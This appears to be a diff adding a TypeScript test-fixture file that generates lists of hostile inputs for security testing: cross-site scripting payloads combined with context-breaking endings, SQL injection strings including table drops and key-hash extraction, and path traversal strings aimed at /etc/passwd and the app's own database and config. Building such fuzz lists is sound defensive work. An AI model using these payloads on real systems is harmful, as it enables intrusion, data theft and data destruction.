@@ -1,0 +1,115 @@
+/** Ends whatever a text may stand in: text, attributes, elements of raw text, comments, scripts, and what decodes later. */
+const endings = [
+  '',
+  '"',
+  "'",
+  '">',
+  "'>",
+  '`>',
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '</style>',
+  '-->',
+  ']]>',
+  '</option></select>',
+  '</p></form>',
+  '&quot;&gt;',
+  '&#34;&#62;',
+  '%22%3E',
+  '\\u0022\\u003e',
+  '＂＞',
+  '\t"\f>',
+]
+
+/** Would run `xss7`, or ask `xss7.example`, if it became markup. */
+const vectors = [
+  '<script>xss7()</script>',
+  '<script src=//xss7.example></script>',
+  '<img src=x onerror=xss7()>',
+  '<svg/onload=xss7()>',
+  '<svg><script href=//xss7.example /></svg>',
+  '<svg><animate onbegin=xss7() attributeName=x>',
+  '<iframe srcdoc="<script>parent.xss7()</script>">',
+  '<iframe src=javascript:parent.xss7()>',
+  '<a href=javascript:xss7()>xss7</a>',
+  '<a href="&#106;avascript:xss7()">xss7</a>',
+  ' onfocus=xss7() autofocus xss7=',
+  '<details open ontoggle=xss7()>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=xss7()>',
+  '<noscript><p title="</noscript><img src=x onerror=xss7()>">',
+  '<template><img src=x onerror=xss7()></template>',
+  '<base href=//xss7.example/>',
+  '<meta http-equiv=refresh content="0;url=//xss7.example">',
+  '<form action=//xss7.example><button>xss7',
+  '<input autofocus onfocus=xss7()>',
+  '<style>@import "//xss7.example"</style>',
+  '<link rel=stylesheet href=//xss7.example>',
+  '<object data=//xss7.example></object>',
+  '<video><source onerror=xss7()></video>',
+  '<!--<img title="--><img src=x onerror=xss7()>">',
+  'javascript:xss7()//<xss7 onclick=xss7()>',
+]
+
+/** 500 texts, each of which has gone wrong somewhere. */
+export const markup: readonly string[] = endings.flatMap((ending) => vectors.map((vector) => ending + vector))
+
+/** What databases have taken for a statement of their own. */
+export const sql: readonly string[] = [
+  ...["'", '"', '`', "')", '")', "'))", '%27', "\\'", '’'].flatMap((end) => [
+    `${end} OR 1=1 --`,
+    `${end} OR '1'='1`,
+    `${end} AND 1=2 --`,
+    `${end}; DROP TABLE responses; --`,
+    `${end} UNION SELECT value FROM settings --`,
+    `${end} UNION ALL SELECT NULL,NULL,sql FROM sqlite_master --`,
+    `${end}||(SELECT hash FROM keys)||`,
+    `${end}/**/OR/**/1=1#`,
+  ]),
+  '1 OR 1=1',
+  '1; SELECT pg_sleep(10)',
+  '(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)',
+  'randomblob(1000000000)',
+  'load_extension(1)',
+  "1' ORDER BY 99 --",
+  '%',
+  '_',
+  '*',
+  '?',
+  '?1',
+  '$1',
+  ':a',
+  '@a',
+  '$$x$$',
+  "E'\\x27'",
+  "x\u0000' OR 1=1 --",
+  "\ufeff' OR 1=1",
+  '-1',
+  '1e309',
+  'NaN',
+  '[]',
+  '{"a":1}',
+]
+
+/** Ways out of a folder, each to a file that is there on every Unix or beside the program. */
+export const paths: readonly string[] = [
+  '..',
+  '%2e%2e',
+  '%2E%2E',
+  '.%2e',
+  '%252e%252e',
+  '..%00',
+  '..;',
+  '....',
+  '..%c0%af',
+  '%c0%ae%c0%ae',
+  '．．',
+  '..\\',
+  '%5c..',
+].flatMap((up) =>
+  ['/', '%2f', '%5c', '//', '/./'].flatMap((slash) =>
+    ['etc/passwd', 'package.json', 'earshot.db', 'etc/passwd%00.js', 'src/config.ts'].map(
+      (file) => `${`${up}${slash}`.repeat(4)}${file}`,
+    ),
+  ),
+)
